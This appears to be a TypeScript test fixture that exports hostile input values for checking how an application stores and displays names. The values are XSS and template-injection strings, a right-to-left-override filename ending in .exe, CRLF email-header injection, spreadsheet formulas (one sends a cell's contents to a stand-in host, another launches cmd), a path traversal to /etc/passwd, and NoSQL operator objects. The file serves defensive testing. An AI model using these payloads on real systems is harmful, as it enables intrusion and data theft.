/** What the markup below would do if anything ran it. Pages that are watched define it. */
export const HURT = 'hurt';

/** Each fits into a name of a hundred characters. */
export const HOSTILE = {
  markup: `"><script>${HURT}()</script><img src=x onerror=${HURT}()>{{7*7}}\${7*7}`,
  svg: `'><svg onload=${HURT}()><a href="javascript:${HURT}()" onfocus=${HURT}() autofocus>x</a>`,
  unreadable: 'an\u0000h\u0007\ud83d\u202egnp.exe\u2066',
  headers: 'Lan\r\nBcc: all@xa.test\r\nX-Bad: yes\r\n\r\n<b>x</b>',
  formula: '=HYPERLINK("http://xa.test/?"&A1,"Bấm")',
  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
  path: '../../../../../../etc/passwd\\..\\x',
} as const;

/** Values of another kind than the one that is expected. */
export const WRONG_KINDS: readonly unknown[] = [null, 7, { $ne: '' }, ['a']];
export const EXTREME_NUMBERS: readonly number[] = [Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER];
/** Nothing of what may be stored or shown. */
// eslint-disable-next-line no-control-regex -- what must not be there
export const UNREADABLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202a-\u202e\u2066-\u2069]|\p{Surrogate}/u;
